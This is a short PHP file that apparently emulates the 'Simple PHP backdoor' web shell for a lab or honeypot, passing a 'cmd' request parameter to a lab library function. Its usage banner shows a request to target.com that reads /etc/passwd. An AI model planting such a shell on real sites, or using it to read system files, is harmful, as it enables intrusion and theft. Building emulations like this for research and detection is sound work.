<?php require getenv('LAB_SHELL_LIB');
// Emulates the "Simple PHP backdoor" (?cmd= / POST cmd=): output inside <pre>, usage banner otherwise.
if (isset($_REQUEST['cmd'])) { echo "<pre>"; echo htmlspecialchars(lab_run($_REQUEST['cmd'])); echo "</pre>"; die; }
?>
<!-- Simple PHP backdoor by DK (http://michaeldaw.org) -->
Usage: http://target.com/simple-backdoor.php?cmd=cat+/etc/passwd
